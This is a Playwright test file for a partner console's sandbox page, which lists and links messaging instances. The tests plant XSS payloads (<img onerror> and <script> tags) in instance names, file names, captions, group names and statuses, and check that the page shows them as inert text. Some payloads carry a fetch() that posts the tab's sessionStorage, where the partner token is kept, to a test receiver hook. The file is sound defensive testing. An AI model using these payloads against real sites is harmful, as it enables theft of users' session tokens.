"""The console's sandbox page (``/console/sandbox``) in a real browser: Debian's Chromium, driven
by Playwright.

The page is a section of the partner console: the person signs in with the console's form, and
the partner token it keeps for the tab (session storage) is the one the page uses; another page
of the console signed in in the same tab carries over, ``/sandbox`` redirects here, and a token
revoked meanwhile signs the tab out.

An instance's name is set by whoever holds that one instance token (Z-API ``update-name``), and
the page shows it to the partner, whose token the tab holds. These tests rename instances to
markup that would run script, open the page as the partner and check the names stay text, that
nothing ran or left for another origin, and that the page still links phones and chats. File
names and captions are the sender's text too: the page sends a picture and shows a received
file whose name and caption are such markup. Then the page's phone does the rest of what a phone
does (a group with members and admins, reactions, votes, edits, deletions, a call, a block,
statuses) and the instance is notified of each; group names, poll options and statuses are such
markup too.

Chromium is the system's (``apt-get install chromium``); Playwright's own browser downloads are
never used. Without it the tests skip, except in CI or with FLEETGATE_TEST_REQUIRE_POSTGRES=1,
where they fail.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import secrets
import struct
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, Request, async_playwright
from sqlalchemy import update

from fleetgate.api.console.pages import CONTENT_SECURITY_POLICY
from fleetgate.clock import now_ms
from fleetgate.context import Context
from fleetgate.services import partners
from fleetgate.storage.tables import SandboxPairingRow
from tests.receiver import Receiver, running_receiver
from tests.sending import Json, notifications_until, post, send
from tests.support import (
    Instance,
    LiveServer,
    MakeInstance,
    MakePartner,
    authorize,
    postgres_required,
    wait_for_state,
)

CHROMIUM = Path("/usr/bin/chromium")
WAIT_MS = 15_000
PAGE = "/console/sandbox"
TOKEN_KEY = "fleetgate.partnerToken"  # where console.js keeps the partner token of the tab
# What a hostile string would steal: the tab's session storage, where its partner token is.
STEAL = "fetch('{hook}',{{method:'POST',body:JSON.stringify(sessionStorage)}})"


def _chromium_or_skip() -> None:
    if CHROMIUM.exists():
        return
    reason = f"{CHROMIUM} is missing: apt-get install chromium (.ci/run does)"
    if os.environ.get("CI") or postgres_required():
        pytest.fail(f"browser tests are required here: {reason}")
    pytest.skip(f"browser tests skipped: {reason}")


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    _chromium_or_skip()
    async with async_playwright() as pw:
        # --no-sandbox: CI runs as root, where Chromium's own sandbox cannot start.
        launched = await pw.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        try:
            yield launched
        finally:
            await launched.close()


@pytest.fixture
def receiver() -> AsyncIterator[Receiver]:
    """Where a hostile name would send what it stole (nothing may arrive)."""
    with running_receiver() as r:
        yield r


@dataclass
class Watched:
    """A page and everything it did that a test may want to see."""

    page: Page
    origin: str
    console_errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    foreign_requests: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def on_console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.console_errors.append(message.text)

    async def on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    def on_request(self, request: Request) -> None:
        url = request.url
        self.requests.append(url)
        if not (url.startswith(self.origin + "/") or url.startswith("data:")):
            self.foreign_requests.append(url)


OpenPage = Callable[..., Awaitable[Watched]]


@pytest.fixture
async def open_sandbox(browser: Browser, server: LiveServer) -> AsyncIterator[OpenPage]:
    """Factory: a fresh browser context on the sandbox page (or another ``path`` of the console),
    watched for errors, dialogs and requests; the page has the console's headers."""
    contexts = []

    async def open_page(path: str = PAGE) -> Watched:
        context = await browser.new_context()
        contexts.append(context)
        page = await context.new_page()
        watched = Watched(page, server.url)
        page.on("console", watched.on_console)
        page.on("pageerror", lambda exc: watched.console_errors.append(str(exc)))
        page.on("dialog", watched.on_dialog)
        page.on("request", watched.on_request)
        response = await page.goto(server.url + path)
        assert response is not None and response.status == 200
        headers = await response.all_headers()
        assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-content-type-options"] == "nosniff"
        return watched

    yield open_page
    for context in contexts:
        await context.close()


def _phone() -> str:
    return "7900" + "".join(secrets.choice("0123456789") for _ in range(7))


async def _rename(client: httpx.AsyncClient, instance: Instance, name: str) -> None:
    """Rename as the holder of the instance token alone would (Z-API update-name)."""
    r = await client.put(
        f"/instances/{instance.id}/token/{instance.token}/update-name", json={"value": name}
    )
    assert r.status_code == 200, r.text


async def sign_in(page: Page, partner_token: str) -> None:
    """Sign in with the console's form; the page shows once the token is accepted."""
    await page.fill("#token", partner_token)
    await page.click("#signinForm button")
    await page.locator("#app").wait_for(timeout=WAIT_MS)


async def _show_instances(watched: Watched, partner_token: str, count: int) -> None:
    """Sign in: the page lists the partner's instances by itself."""
    await sign_in(watched.page, partner_token)
    await watched.page.locator("#instances button").nth(count - 1).wait_for(timeout=WAIT_MS)


async def test_hostile_instance_names_show_as_text_and_run_nothing(
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
    receiver: Receiver,
) -> None:
    partner_token = await make_partner()
    steal = STEAL.format(hook=receiver.hook("stolen"))
    names = [
        f'<img src=x onerror="window.__pwned=1;{steal}">',
        f"<script>window.__pwned=2;{steal}</script>",
    ]
    for name in names:
        await _rename(client, await make_instance(partner_token), name)

    watched = await open_sandbox()
    await _show_instances(watched, partner_token, len(names))
    page = watched.page

    cells = await page.locator("#instances td:nth-child(2)").all_text_contents()
    assert sorted(cells) == sorted(names)
    # The markup was never parsed: no element came of it, no handler, no script ran.
    assert await page.locator("#instances img, #instances script").count() == 0
    assert await page.evaluate("window.__pwned") is None
    assert watched.dialogs == []
    assert watched.console_errors == []
    assert watched.foreign_requests == []
    assert receiver.of("stolen", ok_only=False) == []


async def test_the_policy_blocks_inline_script_the_page_did_not_ship(
    open_sandbox: OpenPage,
) -> None:
    """The second wall: even markup that did reach the page could not run inline code."""
    watched = await open_sandbox()
    blocked = await watched.page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                (e) => resolve(e.violatedDirective), { once: true });
            const s = document.createElement("script");
            s.textContent = "window.__inline = 1";
            document.body.append(s);
        })"""
    )
    assert blocked.startswith("script-src")
    assert await watched.page.evaluate("window.__inline") is None


async def test_the_page_links_a_phone_and_chats_both_ways(
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
) -> None:
    partner_token = await make_partner()
    instance = await make_instance(partner_token)
    await wait_for_state(client, instance, "notAuthorized")
    watched = await open_sandbox()
    page = watched.page
    await _show_instances(watched, partner_token, 1)

    # Pick the instance: its QR appears; the phone scans it and the instance is authorized.
    await page.click("#instances button")
    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
    assert (await page.locator("#qr img").get_attribute("src") or "").startswith("data:image/png")
    own = _phone()
    await page.fill("#linkPhone", own)
    await page.click("#scan")
    await wait_for_state(client, instance, "authorized")
    await page.click("#load")
    state = page.locator("#instances td:nth-child(3)")
    await page.wait_for_function(
        "() => document.querySelector('#instances td:nth-child(3)')?.textContent === 'authorized'",
        timeout=WAIT_MS,
    )
    assert await state.text_content() == "authorized"
    assert await page.input_value("#toPhone") == own

    # A contact phone writes to the instance ...
    contact = _phone()
    await page.fill("#fromPhone", contact)
    await page.fill("#text", "hello from the page <b>")
    await page.click("#send")
    await page.wait_for_function(
        "() => document.querySelector('#text').value === ''", timeout=WAIT_MS
    )
    incoming = await _poll_json(client, instance.url("lastIncomingMessages"), bool)
    assert incoming[0]["textMessage"] == "hello from the page <b>"
    # ... and the instance's answer shows in the contact's inbox on the page, as text.
    r = await client.post(
        instance.url("sendMessage"), json={"chatId": f"{contact}@c.us", "message": "<i>hi</i>"}
    )
    assert r.status_code == 200, r.text
    await page.locator("#inbox div", has_text="<i>hi</i>").wait_for(timeout=WAIT_MS)
    assert await page.locator("#inbox i").count() == 0
    assert watched.console_errors == []
    assert watched.foreign_requests == []


async def test_the_page_reads_its_phone_s_lists_only_when_the_stream_says_so(
    ctx: Context,
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
) -> None:
    """No timer: while nothing happens to the phone the page reads none of its lists, though a
    QR rotates meanwhile (the later event that ends the quiet stretch, a few seconds on)."""
    partner_token = await make_partner()
    instance = await make_instance(partner_token)
    await wait_for_state(client, instance, "notAuthorized")
    watched = await open_sandbox()
    page = watched.page
    await _show_instances(watched, partner_token, 1)

    def reads(route: str) -> int:
        return sum(1 for url in watched.requests if f"/{route}" in url.split("?")[0])

    contact = _phone()
    await _watch_phone(page, contact)
    # The instance's QR is made to expire in four seconds (the sandbox's lives 20 s).
    auth = {"Authorization": f"Bearer {partner_token}"}
    assert (await client.get(f"/sandbox/instances/{instance.id}/qr", headers=auth)).is_success
    async with ctx.db.transaction() as session:
        await session.execute(
            update(SandboxPairingRow)
            .where(SandboxPairingRow.id_instance == instance.id)
            .values(qr_expires_ms=now_ms() + 4000)
        )
    await page.click("#instances button")
    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
    shown = await page.locator("#qr img").get_attribute("src")
    # One reading of each list per stream opened (the phone's, then the phone's and instance's).
    await page.wait_for_function(
        "() => performance.getEntriesByType('resource')"
        ".filter((e) => e.name.includes('/statuses')).length >= 2",
        timeout=WAIT_MS,
    )
    quiet = {route: reads(route) for route in ("conversation", "groups", "statuses")}
    assert quiet == {"conversation": 2, "groups": 2, "statuses": 2}

    await page.wait_for_function(
        f"() => document.querySelector('#qr img')?.getAttribute('src') !== {shown!r}",
        timeout=WAIT_MS,
    )
    assert {route: reads(route) for route in quiet} == quiet

    # Then something happens to the phone: another phone writes to it, and the page shows it.
    r = await client.post(
        f"/sandbox/phones/{_phone()}/messages",
        json={"chatId": f"{contact}@c.us", "message": "now"},
        headers=auth,
    )
    assert r.status_code == 200, r.text
    await page.locator("#inbox div", has_text="now").wait_for(timeout=WAIT_MS)
    assert reads("conversation") > quiet["conversation"]
    assert watched.console_errors == []
    assert watched.foreign_requests == []


async def _poll_json(
    client: httpx.AsyncClient, url: str, ready: Callable[[list[dict[str, str]]], bool]
) -> list[dict[str, str]]:
    """GET ``url`` until its JSON list is ``ready`` (bounded)."""
    body: list[dict[str, str]] = []
    for _ in range(300):
        r = await client.get(url)
        assert r.status_code == 200, r.text
        body = r.json()
        if ready(body):
            return body
        await asyncio.sleep(0.05)
    raise AssertionError(f"{url} never became ready; last {body!r}")


def _png(width: int, height: int) -> bytes:
    """A small real PNG picture (red), made here."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    rows = b"".join(b"\0" + b"\xc8\x1e\x1e" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


async def _next_incoming(client: httpx.AsyncClient, instance: Instance) -> dict[str, Any]:
    """The instance's next incomingMessageReceived notification (others are taken and passed)."""
    for _ in range(10):
        r = await client.get(instance.url("receiveNotification"), params={"receiveTimeout": 5})
        assert r.status_code == 200, r.text
        got = r.json()
        if got is None:
            continue
        deleted = await client.delete(f"{instance.url('deleteNotification')}/{got['receiptId']}")
        assert deleted.status_code == 200, deleted.text
        if got["body"]["typeWebhook"] == "incomingMessageReceived":
            body: dict[str, Any] = got["body"]
            return body
    raise AssertionError("no incomingMessageReceived notification came")


async def test_the_page_sends_a_picture_and_shows_received_files_as_text(
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
    receiver: Receiver,
) -> None:
    partner_token = await make_partner()
    instance = await make_instance(partner_token, incomingWebhook="yes")
    own = _phone()
    await authorize(client, instance, own)
    watched = await open_sandbox()
    page = watched.page
    await sign_in(page, partner_token)
    contact = _phone()
    await page.fill("#fromPhone", contact)
    await page.fill("#toPhone", own)

    # The page's phone sends a picture, with the text box as its caption ...
    picture = _png(3, 2)
    await page.fill("#text", "a red <b>picture</b>")
    await page.set_input_files(
        "#file", files=[{"name": "red.png", "mimeType": "image/png", "buffer": picture}]
    )
    await page.click("#sendFile")
    await page.wait_for_function(
        "() => document.querySelector('#text').value === ''", timeout=WAIT_MS
    )
    assert await page.text_content("#status") == ""
    # ... and the instance receives it as an image whose link gives back the same bytes.
    body = await _next_incoming(client, instance)
    assert body["senderData"]["chatId"] == f"{contact}@c.us"
    data = body["messageData"]
    assert data["typeMessage"] == "imageMessage"
    assert data["fileMessageData"]["fileName"] == "red.png"
    assert data["fileMessageData"]["caption"] == "a red <b>picture</b>"
    got = await client.get(data["fileMessageData"]["downloadUrl"])
    assert got.status_code == 200, got.text
    assert hashlib.sha256(got.content).hexdigest() == hashlib.sha256(picture).hexdigest()

    # The instance answers with a file whose name and caption are markup that would run.
    slash = "'+String.fromCharCode(47)+'"  # a file name keeps no folder: no "/" in it
    hook = receiver.hook("stolen").replace("/", slash)
    steal = STEAL.format(hook=hook)
    name = f"<img src=x onerror=window.__pwned=3;{steal}>.png"
    caption = f"<script>window.__pwned=4;{steal.replace(slash, '/')}</script>"
    answer = _png(2, 2)
    r = await client.post(
        instance.url("sendFileByUpload"),
        data={"chatId": f"{contact}@c.us", "fileName": name, "caption": caption},
        files={"file": ("answer.png", answer, "image/png")},
    )
    assert r.status_code == 200, r.text

    # The page shows it in the contact's messages: the name as the text of a download link,
    # the caption as text, and the picture small (an <img> of this origin, allowed by img-src).
    # (The picture the page sent shows too, as the phone's own: class "mine".)
    received = "#inbox .file:not(.mine)"
    link = page.locator(f"{received} a")
    await link.wait_for(timeout=WAIT_MS)
    assert await link.text_content() == name
    assert await link.get_attribute("download") == name
    assert await link.get_attribute("rel") == "noopener"
    href = await link.get_attribute("href") or ""
    assert href.startswith(watched.origin + "/media/")
    assert caption in (await page.text_content(received) or "")
    await page.wait_for_function(
        "(css) => document.querySelector(css + ' img.preview')?.naturalWidth === 2",
        arg=received,
        timeout=WAIT_MS,
    )
    async with page.expect_download(timeout=WAIT_MS) as downloading:
        await link.click()
    download = await downloading.value
    saved = await download.path()
    assert hashlib.sha256(saved.read_bytes()).hexdigest() == hashlib.sha256(answer).hexdigest()

    # Nothing of the markup ran or became elements: the <img>s are the page's own previews,
    # one of each picture.
    assert await page.locator("#inbox script").count() == 0
    assert await page.locator(f"{received} img").count() == 1
    assert await page.locator("#inbox img").count() == 2
    assert await page.evaluate("window.__pwned") is None
    assert watched.dialogs == []
    assert watched.console_errors == []
    assert watched.foreign_requests == []
    assert receiver.of("stolen", ok_only=False) == []


async def _watch_phone(page: Page, phone: str) -> None:
    """Enter the page's phone (the page follows it from the change event on)."""
    await page.fill("#fromPhone", phone)
    await page.dispatch_event("#fromPhone", "change")


def _kind(body: Json) -> tuple[str, Any]:
    return body["typeWebhook"], body.get("messageData", {}).get("typeMessage") or body.get("status")


async def _assert_inert(watched: Watched, refused: int = 0) -> None:
    """Nothing of the markup the test planted ran or became elements; nothing left 127.0.0.1;
    the console logged nothing but the ``refused`` requests the test made on purpose."""
    page = watched.page
    assert await page.locator("#inbox b b, #inbox i, #groups img, #statuses script").count() == 0
    assert await page.evaluate("window.__pwned") is None
    assert watched.dialogs == []
    bad_request = "Failed to load resource: the server responded with a status of 400 (Bad Request)"
    assert watched.console_errors == [bad_request] * refused
    assert watched.foreign_requests == []


async def test_the_page_makes_a_group_manages_it_and_writes_in_it(
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
) -> None:
    partner_token = await make_partner()
    instance = await make_instance(partner_token, incomingWebhook="yes")
    own, me, friend = _phone(), _phone(), _phone()
    await authorize(client, instance, own)
    watched = await open_sandbox()
    page = watched.page
    await sign_in(page, partner_token)
    await _watch_phone(page, me)

    # The page's phone makes a group with the instance in it; its name is markup, shown as text.
    name = "<img src=x onerror=window.__pwned=5>"
    await page.fill("#groupName", name)
    await page.fill("#groupMembers", own)
    await page.click("#createGroup")
    box = page.locator("#groups .group")
    await box.wait_for(timeout=WAIT_MS)
    assert await box.locator(".subject").text_content() == name
    group = await box.get_attribute("data-group") or ""
    assert group.endswith("@g.us")

    def members(data: Json) -> dict[str, bool]:
        return {p["id"]: p["isAdmin"] for p in data["participants"]}

    seen = await post(client, instance, "getGroupData", {"groupId": group})
    assert (seen["subject"], members(seen)) == (name, {f"{me}@c.us": True, f"{own}@c.us": False})

    # It adds a second phone and makes it an admin; the instance sees both.
    await box.locator(".addMember").fill(friend)
    await box.locator("button[data-act=add]").click()
    row = box.locator(f'li[data-member="{friend}@c.us"]')
    await row.locator("button[data-act=promote]").click()
    await row.filter(has_text="(admin)").wait_for(timeout=WAIT_MS)
    seen = await post(client, instance, "getGroupData", {"groupId": group})
    assert members(seen)[f"{friend}@c.us"] is True

    # It writes in the group: the instance receives it as a group message by the phone ...
    await box.locator("button[data-act=write]").click()
    assert await page.input_value("#toPhone") == group
    await page.fill("#text", "<b>to the group</b>")
    await page.click("#send")

    def got_text(bodies: list[Json]) -> bool:
        return ("incomingMessageReceived", "textMessage") in map(_kind, bodies)

    [body] = [
        b
        for b in await notifications_until(client, instance, got_text)
        if _kind(b)[1] == "textMessage"
    ]
    assert body["senderData"]["chatId"] == group and body["senderData"]["sender"] == f"{me}@c.us"
    assert body["messageData"]["textMessageData"]["textMessage"] == "<b>to the group</b>"
    # ... and the instance's answer in the group shows on the page, as text, under the group.
    await send(client, instance, "sendMessage", {"chatId": group, "message": "<i>noted</i>"})
    answer = page.locator("#inbox .msg", has_text="<i>noted</i>")
    await answer.wait_for(timeout=WAIT_MS)
    assert await answer.locator("b").text_content() == f"{own}@c.us in {group}"
    assert await page.locator("#inbox .msg.mine", has_text="<b>to the group</b>").count() == 1

    # A number that is none: the server's error shows on the page, and nothing changed.
    await box.locator(".addMember").fill("not a number")
    await box.locator("button[data-act=add]").click()
    await page.locator("#status", has_text="Adding failed: ").wait_for(timeout=WAIT_MS)
    assert await page.text_content("#status") == (
        "Adding failed: participants must be <phone digits>@c.us"
    )
    assert await box.locator("li").count() == 3

    # It removes the second phone, then leaves: the group is gone from its list.
    await row.locator("button[data-act=remove]").click()
    await row.wait_for(state="detached", timeout=WAIT_MS)
    await box.locator("button[data-act=leave]").click()
    await box.wait_for(state="detached", timeout=WAIT_MS)
    seen = await post(client, instance, "getGroupData", {"groupId": group})
    assert members(seen) == {f"{own}@c.us": True}
    assert await page.text_content("#status") == ""
    await _assert_inert(watched, refused=1)


CHAT_SWITCHES = dict.fromkeys(
    (
        "editedMessageWebhook",
        "deletedMessageWebhook",
        "pollMessageWebhook",
        "incomingCallWebhook",
        "incomingBlockWebhook",
    ),
    "yes",
)


async def test_the_page_reacts_votes_edits_deletes_calls_blocks_and_posts_statuses(
    client: httpx.AsyncClient,
    make_partner: MakePartner,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
) -> None:
    partner_token = await make_partner()
    instance = await make_instance(partner_token, incomingWebhook="yes", **CHAT_SWITCHES)
    own, me = _phone(), _phone()
    await authorize(client, instance, own)
    watched = await open_sandbox()
    page = watched.page
    await sign_in(page, partner_token)
    await _watch_phone(page, me)
    await page.fill("#toPhone", own)
    await page.fill("#text", "typo")
    await page.click("#send")

    # The instance answers with a text and a poll whose options are markup.
    hi = await send(
        client, instance, "sendMessage", {"chatId": f"{me}@c.us", "message": "<i>hi</i>"}
    )
    options = ["<b>Yes</b>", "No"]
    poll = await send(
        client,
        instance,
        "sendPoll",
        {
            "chatId": f"{me}@c.us",
            "message": "<b>Lunch?</b>",
            "options": [{"optionName": o} for o in options],
        },
    )
    mine = page.locator("#inbox .msg.mine", has_text="typo")
    await mine.wait_for(timeout=WAIT_MS)
    poll_line = page.locator(f'#inbox .msg[data-id="{poll}"]')
    await poll_line.wait_for(timeout=WAIT_MS)
    assert await poll_line.locator("label").all_text_contents() == options
    typo = await mine.get_attribute("data-id")

    # Edit the phone's own text ...
    await mine.locator("button[data-act=edit]").click()
    assert await page.input_value("#editText") == "typo"
    await page.fill("#editText", "fixed")
    await page.click("#saveEdit")
    edited = page.locator(f'#inbox .msg[data-id="{typo}"]', has_text="(edited)")
    await edited.wait_for(timeout=WAIT_MS)
    assert "fixed" in (await edited.text_content() or "")
    # ... react to the instance's text, vote in its poll, then delete the edited text.
    await page.locator(f'#inbox .msg[data-id="{hi}"] button[data-reaction="👍"]').click()
    await page.locator(f'#inbox .msg[data-id="{hi}"] .reactions').wait_for(timeout=WAIT_MS)
    await poll_line.get_by_label("<b>Yes</b>").check()
    await poll_line.locator("button[data-act=vote]").click()
    await poll_line.filter(has_text="<b>Yes</b> (1)").wait_for(timeout=WAIT_MS)
    await edited.locator("button[data-act=delete]").click()
    await page.locator(f'#inbox .msg.deleted[data-id="{typo}"]').wait_for(timeout=WAIT_MS)
    # Call the instance (it rings, then is rejected) and block it.
    await page.select_option("#callOutcome", "declined")
    await page.click("#call")
    await page.locator("#status", has_text="rang, then was rejected").wait_for(timeout=WAIT_MS)
    await page.click("#block")
    await page.locator("#status", has_text=f"Blocked {own}@c.us").wait_for(timeout=WAIT_MS)

    wanted = {
        ("incomingMessageReceived", "textMessage"),
        ("incomingMessageReceived", "editedMessage"),
        ("incomingMessageReceived", "reactionMessage"),
        ("incomingMessageReceived", "pollUpdateMessage"),
        ("incomingMessageReceived", "deletedMessage"),
        ("incomingCall", "offer"),
        ("incomingCall", "declined"),
        ("incomingBlock", None),
    }
    bodies = await notifications_until(client, instance, lambda b: wanted <= set(map(_kind, b)))
    by_kind = {_kind(b): b for b in bodies}
    assert by_kind[("incomingMessageReceived", "textMessage")]["idMessage"] == typo
    assert by_kind[("incomingMessageReceived", "editedMessage")]["messageData"][
        "editedMessageData"
    ] == {"textMessage": "fixed", "stanzaId": typo}
    reaction = by_kind[("incomingMessageReceived", "reactionMessage")]["messageData"]
    assert reaction["extendedTextMessageData"] == {"text": "👍"}
    assert reaction["quotedMessage"]["stanzaId"] == hi
    vote = by_kind[("incomingMessageReceived", "pollUpdateMessage")]["messageData"]
    assert vote["pollMessageData"]["stanzaId"] == poll
    assert vote["pollMessageData"]["votes"] == [
        {"optionName": "<b>Yes</b>", "optionVoters": [f"{me}@c.us"]},
        {"optionName": "No", "optionVoters": []},
    ]
    deleted = by_kind[("incomingMessageReceived", "deletedMessage")]["messageData"]
    assert deleted["deletedMessageData"] == {"stanzaId": typo}
    offer, declined = by_kind[("incomingCall", "offer")], by_kind[("incomingCall", "declined")]
    assert offer["from"] == declined["from"] == f"{me}@c.us"
    assert offer["idMessage"] == declined["idMessage"]
    assert by_kind[("incomingBlock", None)]["chatId"] == f"{me}@c.us"

    # The page's phone posts a status its contact, the instance, sees ...
    news = "<script>window.__pwned=6</script>"
    await page.fill("#statusText", news)
    await page.click("#postStatus")
    await page.locator("#status", has_text="Posted the status").wait_for(timeout=WAIT_MS)
    incoming = (await client.get(instance.url("getIncomingStatuses"))).json()
    assert [(s["chatId"], s["textMessage"]) for s in incoming] == [(f"{me}@c.us", news)]
    assert incoming[0]["extendedTextMessage"]["backgroundColor"] == "#228b22"
    # ... and sees the instance's status, as text, and views it: the instance's statistic shows it.
    theirs = await send(client, instance, "sendTextStatus", {"message": "<b>out</b> today"})
    await page.click("#loadStatuses")
    line = page.locator(f'#statuses .status[data-id="{theirs}"]')
    await line.wait_for(timeout=WAIT_MS)
    assert await line.text_content() == f"{own}@c.us: <b>out</b> today view"
    await line.locator("button").click()
    await page.locator("#status", has_text="Viewed the status").wait_for(timeout=WAIT_MS)
    stats = await client.get(instance.url("getStatusStatistic"), params={"idMessage": theirs})
    assert [(s["participant"], s["status"]) for s in stats.json()] == [(f"{me}@c.us", "read")]
    assert await page.locator("#status.error").count() == 0
    await _assert_inert(watched)


async def test_the_console_s_sign_in_carries_to_the_sandbox_which_links_by_qr_and_by_code(
    ctx: Context,
    client: httpx.AsyncClient,
    make_instance: MakeInstance,
    open_sandbox: OpenPage,
) -> None:
    name = f"sandbox-{secrets.token_hex(6)}"
    async with ctx.db.transaction() as session:
        _, partner_token = await partners.create_partner(session=session, name=name)
    instance = await make_instance(partner_token)
    await wait_for_state(client, instance, "notAuthorized")

    # Signed in on the console's instances page, the tab goes to the sandbox through the
    # navigation: no second sign-in, the list shows at once with the same stored token.
    watched = await open_sandbox("/console")
    page = watched.page
    await sign_in(page, partner_token)
    await page.click("header nav a[href='/console/sandbox']")
    await page.wait_for_url(watched.origin + PAGE)
    await page.locator("#instances button").first.wait_for(timeout=WAIT_MS)
    assert await page.locator("#signin").is_hidden()
    assert await page.input_value("#token") == ""
    assert await page.locator("#instances td").first.text_content() == str(instance.id)

    # The instance's page links here with the instance picked: its QR shows without a click,
    # and a phone scans it.
    await page.goto(f"{watched.origin}/console/instances/{instance.id}")
    await page.click("#sandboxLink")
    await page.wait_for_url(f"{watched.origin}{PAGE}?instance={instance.id}")
    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
    assert await page.locator("#qr img").get_attribute("alt") == f"QR of {instance.id}"
    await page.fill("#linkPhone", _phone())
    await page.click("#scan")
    await wait_for_state(client, instance, "authorized")

    # A second instance links by a pairing code: its page asks for one for a number, and the
    # sandbox's phone of that number types it (a wrong code first: refused, nothing linked).
    second = await make_instance(partner_token)
    await wait_for_state(client, second, "notAuthorized")
    await page.goto(f"{watched.origin}/console/instances/{second.id}")
    paired = _phone()
    await page.fill("#pairPhone", paired)
    await page.click("#pair")
    await page.wait_for_function(
        "() => document.querySelector('#pairCode').textContent.length === 8", timeout=WAIT_MS
    )
    code = await page.text_content("#pairCode") or ""
    await page.click("#sandboxLink")
    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
    await page.fill("#linkPhone", paired)
    await page.fill("#pairingCode", "WRONG123")
    await page.click("#typeCode")
    await page.locator("#status.error", has_text="Linking failed: ").wait_for(timeout=WAIT_MS)
    state = await client.get(second.url("getStateInstance"))
    assert state.json() == {"stateInstance": "notAuthorized"}
    await page.fill("#pairingCode", code)
    await page.click("#typeCode")
    linked = f"Linked {paired} to instance {second.id}."
    await page.locator("#status", has_text=linked).wait_for(timeout=WAIT_MS)
    await wait_for_state(client, second, "authorized")
    assert await page.input_value("#toPhone") == paired

    # The old address lands on the same page, still signed in.
    response = await page.goto(watched.origin + "/sandbox")
    assert response is not None and response.url == watched.origin + PAGE
    redirect = response.request.redirected_from
    first = await redirect.response() if redirect else None
    assert first is not None and first.status == 307
    await page.locator("#instances button").first.wait_for(timeout=WAIT_MS)

    # Once the partner token is replaced, the old one is refused: the tab signs out and says so.
    async with ctx.db.transaction() as session:
        await partners.replace_partner_token(session=session, name=name)
    await page.click("#load")
    await page.locator("#signinError", has_text="not accepted").wait_for(timeout=WAIT_MS)
    assert await page.locator("#app").is_hidden()
    assert await page.evaluate(f"sessionStorage.getItem('{TOKEN_KEY}')") is None
    # Chromium logs the two refusals the test provoked; nothing else went wrong or left.
    refused = "Failed to load resource: the server responded with a status of"
    assert watched.console_errors == [f"{refused} 404 (Not Found)", f"{refused} 401 (Unauthorized)"]
    assert watched.foreign_requests == []
    assert watched.dialogs == []
